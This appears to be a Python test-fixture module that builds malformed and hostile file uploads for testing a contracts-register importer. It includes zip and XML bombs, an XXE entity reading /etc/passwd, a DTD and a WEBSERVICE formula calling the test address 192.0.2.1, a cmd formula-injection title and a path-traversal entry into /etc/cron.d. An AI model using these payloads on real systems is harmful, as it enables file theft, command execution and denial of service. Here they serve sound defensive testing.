"""Files as officers and enemies send them, made here: name, bytes, and what is to be told of each.

Three ways to end: `whole` (the file is refused, with a sentence), `cell` (read; told of by row and column), `good`.
"""

from __future__ import annotations

import io
import re
import zipfile
from collections.abc import Callable, Iterator, Mapping
from dataclasses import dataclass, field
from datetime import date
from typing import Any

import xlsxwriter  # type: ignore[import-untyped]

from tests.unit.exchange.making import csv_of, row, xlsx_of

HEADER = list(row())
CELLS: list[Any] = ["EXA-1", "Grounds maintenance", "Acme Lawns Ltd", date(2025, 4, 1), date(2027, 3, 31), 12000]
GOOD = csv_of([row(), row(ContractReference="EXA-2")])


@dataclass(frozen=True, slots=True)
class Upload:
    """One file. `says` is found in the sentence of a refused file, or in what is told of row and column."""

    name: str
    body: bytes = field(repr=False)
    says: str = ""
    row: int | None = None
    column: str = ""
    records: int | None = None

    @property
    def refused(self) -> bool:
        """Whether the file as a whole is refused."""
        return self.records is None


def whole(name: str, body: bytes, says: str) -> Upload:
    """A file that is refused with a sentence."""
    return Upload(name, body, says)


def cell(name: str, body: bytes | str, row_: int, column: str, says: str = "", *, records: int = 1) -> Upload:
    """A file that is read, in which one cell (or a row, without a column) is told of."""
    return Upload(name, body if isinstance(body, bytes) else body.encode(), says, row_, column, records)


def good(name: str, body: bytes | str, records: int) -> Upload:
    """A file that is read without an error."""
    return Upload(name, body if isinstance(body, bytes) else body.encode(), records=records)


def archive(members: Mapping[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    """Make a zip archive."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as made:
        for name, body in members.items():
            made.writestr(name, body)
    return out.getvalue()


BOOK = xlsx_of({"Register": [HEADER, CELLS]})


def bent(change: Callable[[str, bytes], bytes], more: Mapping[str, bytes] | None = None) -> bytes:
    """The good workbook with its parts changed, and parts added."""
    with zipfile.ZipFile(io.BytesIO(BOOK)) as made:
        parts = {name: change(name, made.read(name)) for name in made.namelist()}
    return archive({**parts, **(more or {})})


def _sheet(change: Callable[[bytes], bytes]) -> bytes:
    return bent(lambda name, body: change(body) if name == "xl/worksheets/sheet1.xml" else body)


def _strings(change: Callable[[bytes], bytes]) -> bytes:
    return bent(lambda name, body: change(body) if name == "xl/sharedStrings.xml" else body)


def _far(place: str) -> bytes:
    far = f'<row r="{re.sub("[A-Z]", "", place)}"><c r="{place}"><v>1</v></c></row></sheetData>'.encode()
    return _sheet(lambda xml: xml.replace(b"</sheetData>", far))


def bombs() -> Iterator[Upload]:
    """Archives that unpack to far more than they are."""
    zeros = bytes(30_000_000)
    yield whole("bomb in a part", archive({"xl/workbook.xml": b"<x/>", "xl/media/a.bin": zeros}), "100 to 1")
    yield whole("bomb in the sheet", _sheet(lambda xml: xml + b" " * 30_000_000), "100 to 1")
    yield whole("bomb in the strings", _strings(lambda xml: xml + zeros), "100 to 1")
    inner = archive({"a": zeros})
    yield whole("bomb in a bomb", archive({"xl/workbook.xml": b"<x/>", "b.zip": inner}), "cannot be read")
    yield whole("a thousand parts", archive({"xl/workbook.xml": b"<x/>"} | {f"p{n}": b"" for n in range(999)}), "parts")
    laughs = b"".join(b'<!ENTITY e%d "%b">' % (n, b"&e%d;" % (n - 1) * 10) for n in range(1, 10))
    lol = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e0 "lol">' + laughs + b"]>"
    laughing = _strings(lambda xml: lol + xml.split(b"?>", 1)[1].replace(b"Grounds", b"&e9;"))
    yield whole("billion laughs", laughing, "cannot be read")
    yield whole("sparse to the last cell", _far("XFD1048576"), "memory|longer|rows")
    yield whole("sparse to the last row", _far("A1048576"), "500000 rows")
    yield whole("sparse to the last column", _far("XFD2"), "columns")


def disguises() -> Iterator[Upload]:
    """Files that are not what their name says."""
    old = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)
    yield whole("old Excel", old, "old .xls")
    yield whole("PDF", b"%PDF-1.7\n1 0 obj\n", "PDF")
    yield whole("web page", b"<!DOCTYPE html><html><body>Log in</body></html>", "web page")
    yield whole("web page after a mark", b"\xef\xbb\xbf \r\n<html><script>1</script>", "web page")
    yield whole("Word document", archive({"word/document.xml": b"<x/>"}), "not an XLSX")
    yield whole("OpenDocument", archive({"mimetype": b"application/vnd.oasis", "content.xml": b"<x/>"}), "not an XLSX")
    yield whole("any archive", archive({"register.csv": GOOD.encode()}), "not an XLSX")
    yield whole("picture", b"\x89PNG\r\n\x1a\n" + bytes(range(256)), "NUL|UTF-8")
    yield whole("gzip", b"\x1f\x8b\x08\x00" + bytes(range(256)), "NUL|UTF-8")
    yield whole("program", b"\x7fELF\x02\x01\x01\x00" + bytes(64), "NUL")
    yield whole("XML", b'<?xml version="1.0"?><register><contract/></register>', "No header")
    yield whole("JSON that breaks off", b'[{"reference": "A", "title": ', "breaks off|wrong at")
    yield cell("JSON of another shape", b'{"contracts": {"a": 1}}', 1, "", "no title", records=0)
    yield whole("JSON that is a word", b'{"items": "many"}', "not a list")
    yield whole("OCDS package", b'{"releases": [], "version": "1.1"}', "OCDS package")
    yield good("workbook named .csv", BOOK, 1)
    yield whole("nothing", b"", "empty")
    yield whole("blanks", b" \r\n \r\n", "empty")
    yield whole("prose", b"Dear colleague,\r\nplease find attached\r\n", "No header")


def workbooks() -> Iterator[Upload]:
    """Workbooks that are damaged, poisoned or odd."""
    yield whole("cut off in the middle", BOOK[: len(BOOK) // 2], "damaged")
    yield whole("cut off at the end", BOOK[:-30], "damaged")
    yield whole(
        "without its sheet", bent(lambda n, b: b"" if n.endswith("sheet1.xml") else b), "cannot be read|No header"
    )
    yield whole("with noise for a sheet", _sheet(lambda _xml: bytes(range(1, 256)) * 9), "cannot be read")
    yield whole("with a sheet cut off", _sheet(lambda xml: xml[: len(xml) // 2]), "cannot be read|No header")
    yield whole("encrypted", bytes(_flagged(BOOK)), "encrypted|damaged")
    xxe = b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
    yield whole("XXE", _strings(lambda xml: _after_head(xml, xxe).replace(b"Grounds", b"&e;Grounds")), "cannot be read")
    yield good("XXE in the sheet", _sheet(lambda xml: _after_head(xml, xxe)), 1)
    dtd = b'<!DOCTYPE x SYSTEM "http://192.0.2.1/evil.dtd">'
    yield good("a DTD elsewhere", _strings(lambda xml: _after_head(xml, dtd)), 1)
    yield good("with a macro", bent(lambda _n, b: b, {"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0" + bytes(99)}), 1)
    link = b'<externalLink><externalBook r:id="rId1"/></externalLink>'
    yield good("with links to elsewhere", bent(lambda _n, b: b, {"xl/externalLinks/externalLink1.xml": link}), 1)
    yield good("with a path that climbs", bent(lambda _n, b: b, {"../../../etc/cron.d/x": b"* * * * *"}), 1)
    yield good("with the same part twice", _doubled(), 1)
    yield cell(
        "with a formula that calls", _with('=WEBSERVICE("http://192.0.2.1/")', 1), 2, "ContractTitle", "computed"
    )
    yield cell("with an error in a cell", _with("=1/0", 5, "#DIV/0!"), 2, "ContractValue", "error")
    yield cell("with truth for a title", xlsx_of({"A": [HEADER, ["E", True, *CELLS[2:5], "much"]]}), 2, "ContractValue")
    yield good("with an empty sheet beside it", xlsx_of({"Register": [HEADER, CELLS], "Sheet2": []}), 1)
    yield whole("with hidden sheets alone", xlsx_of({"Cover": [["x"]], "R": [HEADER, CELLS]}, ["R"]), "No header")
    yield good("with merged headings above", _merged(), 1)
    yield whole("merged headings are the header", _merged(two=True), "No header")
    yield cell(
        "with control signs in strings", _strings(lambda x: x.replace(b"Acme", b"Ac_x0007_me")), 2, "SupplierName"
    )


def _flagged(body: bytes) -> bytearray:
    out = bytearray(body)
    for mark, at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        place = out.find(mark)
        while place >= 0:
            out[place + at] |= 1
            place = out.find(mark, place + 4)
    return out


def _after_head(xml: bytes, told: bytes) -> bytes:
    head, mark, rest = xml.partition(b"?>")
    return head + mark + told + rest


def _doubled() -> bytes:
    out = io.BytesIO(BOOK)
    with zipfile.ZipFile(out, "a") as made, zipfile.ZipFile(io.BytesIO(BOOK)) as had:
        info = zipfile.ZipInfo("docProps/copy.xml")
        made.writestr(info, had.read("xl/workbook.xml"))
    return out.getvalue()


def _with(formula: str, column: int, value: Any = 5) -> bytes:
    out = io.BytesIO()
    book = xlsxwriter.Workbook(out)
    sheet = book.add_worksheet("Register")
    sheet.write_row(0, 0, HEADER)
    sheet.write_row(1, 0, [*CELLS[:3]])
    sheet.write_formula(1, column, formula, None, value)
    book.close()
    return out.getvalue()


def _merged(*, two: bool = False) -> bytes:
    out = io.BytesIO()
    book = xlsxwriter.Workbook(out, {"default_date_format": "dd/mm/yyyy"})
    sheet = book.add_worksheet("Register")
    sheet.merge_range(0, 0, 0, 5, "Contracts register 2025")
    if two:
        sheet.merge_range(1, 0, 1, 2, "What")
        sheet.merge_range(1, 3, 1, 5, "When and how much")
    else:
        sheet.write_row(1, 0, HEADER)
    sheet.write_row(2, 0, CELLS)
    book.close()
    return out.getvalue()


def texts() -> Iterator[Upload]:
    """Encodings, separators, quotes, line ends."""
    pound = csv_of([row(ContractTitle="Caf\u00e9 \u2013 £1m lease")])
    for encoding in ("utf-8", "utf-8-sig", "utf-16", "cp1252"):
        yield good(f"pound sign in {encoding}", pound.encode(encoding), 1)
    yield whole("UTF-16 without its mark", pound.encode("utf-16-le"), "NUL")
    yield whole("UTF-32", pound.encode("utf-32"), "UTF-32")
    yield whole("two encodings in one file", pound.encode() + "EXA-9,£5,,,,\r\n".encode("cp1252"), "part UTF-8")
    yield whole("Macintosh", csv_of([row(ContractTitle="the council\u2019s lawns")]).encode("mac-roman"), "neither")
    yield whole("DOS", b"ContractReference,ContractTitle,ContractValue\r\nA,B,\x9c5000\r\n", "DOS")
    yield whole("NUL in a cell", GOOD.encode().replace(b"Grounds", b"Gro\x00nds"), "NUL")
    yield whole("NUL to begin with", b"\x00" + GOOD.encode(), "NUL")
    yield whole("a mark that lies", b"\xef\xbb\xbf" + pound.encode("cp1252"), "is not")
    yield good("two marks", b"\xef\xbb\xbf" + GOOD.encode("utf-8-sig"), 2)
    for name, delimiter in {"semicolons": ";", "tabs": "\t", "bars": "|"}.items():
        yield good(f"split by {name}", csv_of([row(), row(ContractReference="E2")], delimiter), 2)
    yield good("split by a line that says so", "sep=;\r\n" + csv_of([row()], ";"), 1)
    yield good("line ends of a Macintosh", GOOD.replace("\r\n", "\r"), 2)
    yield good("line ends mixed", GOOD.replace("\r\n", "\n", 1), 2)
    yield whole("a quote that is never closed", (GOOD + 'EXA-3,"Bins').encode(), "never closed|cut off")
    yield whole("cut off in a row", GOOD.encode()[:-20], "cut off")
    yield whole("cut off in a character", (GOOD + "EXA-3,Caf\u20ac").encode()[:-1], "cut off")
    yield whole(
        "a short row in the middle", GOOD.replace("EXA-1,Grounds maintenance,", "EXA-1,").encode(), "column count"
    )
    yield cell("a long row", GOOD.replace("EXA-1,", "EXA-1,Mowing,"), 2, "", "more cells")
    yield whole(
        "a cell of a million signs", (GOOD + "E," + "x" * 300_000 + ",,,,\r\n").encode(), "cannot be read as a row"
    )
    yield whole("two thousand columns", (",".join(["ContractTitle"] * 2_000) + "\r\n").encode(), "columns")
    yield cell("a bell in a title", GOOD.replace("Grounds", "Gro\x07nds", 1), 2, "ContractTitle")
    yield good("right to left", csv_of([row(ContractTitle="\u202eevil\u202c")]), 1)
    yield good("a formula for a title", csv_of([row(ContractTitle="=cmd|' /C calc'!A0")]), 1)


def rows() -> Iterator[Upload]:
    """Rows and cells that mean two things, or nothing."""
    one = csv_of
    yield cell("no title", one([row(ContractTitle=""), row(ContractReference="E2")]), 2, "ContractTitle")
    yield cell("a day that is none", one([row(EndDate="31/02/2027")]), 2, "EndDate")
    thirteen = [row(EndDate="01/13/2027"), row(ContractReference="E2", EndDate="13/13/2027")]
    yield cell("a month that is none", one(thirteen), 3, "EndDate", records=2)
    yield good(
        "days before months by proof",
        one([row(EndDate="01/02/2025"), row(ContractReference="E2", EndDate="28/02/2027")]),
        2,
    )
    yield cell("TBC for an end", one([row(EndDate="TBC")]), 2, "EndDate")
    yield cell("an end before the start", one([row(EndDate="31/03/2020")]), 2, "EndDate")
    yield cell("a year of five digits", one([row(EndDate="31/12/20277")]), 2, "EndDate")
    yield cell("a value in words", one([row(ContractValue="about a million")]), 2, "ContractValue")
    yield cell("a value beyond all money", one([row(ContractValue="9" * 60)]), 2, "ContractValue")
    yield cell("a value beyond all numbers", one([row(ContractValue="1e999")]), 2, "ContractValue")
    yield cell("a negative value", one([row(ContractValue="(3728)")]), 2, "ContractValue")
    yield cell("a reference of dots", one([row(ContractReference="..")]), 2, "ContractReference", records=0)
    yield cell(
        "a reference of a thousand signs", one([row(ContractReference="R" * 1000)]), 2, "ContractReference", records=0
    )
    yield cell("a title of a thousand signs", one([row(ContractTitle="T" * 1000)]), 2, "ContractTitle", records=0)
    yield cell("a row twice", one([row(), row()]), 3, "", "repeats row 2")
    yield cell("a reference twice", one([row(), row(ContractTitle="Bins")]), 2, "", "share the reference", records=2)
    yield cell("the header again", GOOD + ",".join(HEADER) + "\r\n", 4, "", "header stands here again", records=2)
    yield good("blank rows between", GOOD.replace("\r\nEXA-2", "\r\n,,,,,\r\n\r\nEXA-2"), 2)


def every() -> list[Upload]:
    """All of them."""
    return [*bombs(), *disguises(), *workbooks(), *texts(), *rows()]
